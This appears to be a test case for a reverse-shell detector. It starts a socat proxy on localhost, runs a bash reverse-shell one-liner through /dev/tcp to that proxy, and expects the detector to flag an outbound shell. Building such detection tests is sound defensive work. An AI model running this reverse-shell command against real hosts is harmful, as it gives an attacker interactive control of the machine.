# R22: a shell through a proxy that connects on request
# stage: equipped
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#
# The shell runs before the proxy continues.

#: prepare
. lib/peers.sh
peer 4431
socat TCP-LISTEN:4432 TCP:127.0.0.1:4431 > /dev/null 2>&1 & fact proxy $!
await 'grep -q :1150.*:0000.0A /proc/net/tcp'
#: act
. lib/peers.sh
act
bash -c "bash -i >& /dev/tcp/127.0.0.1/4432 0>&1" < /dev/null > /dev/null 2>&1 &
who shell 'bash -i'
await 'at $shell 0 socket:* && at $proxy 5 socket:*'
